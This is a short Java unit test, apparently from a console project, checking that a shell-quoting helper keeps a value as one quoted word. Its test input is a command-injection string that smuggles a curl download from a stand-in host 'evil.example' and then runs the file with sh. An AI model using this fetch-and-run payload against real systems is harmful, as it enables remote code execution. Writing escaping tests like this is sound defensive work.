package gatehouse.console;

import static org.assertj.core.api.Assertions.assertThat;

import org.junit.jupiter.api.Test;

class QuickStartTest {

    @Test
    void valueWithShellCharactersStaysOneQuotedWord() {
        assertThat(AppPages.shellQuoted("https://a.example/cb;curl$IFS-so/tmp/x$IFS'https://evil.example/x';sh"))
                .isEqualTo("'https://a.example/cb;curl$IFS-so/tmp/x$IFS'\\''https://evil.example/x'\\'';sh'");
        assertThat(AppPages.shellQuoted("plain")).isEqualTo("'plain'");
    }
}
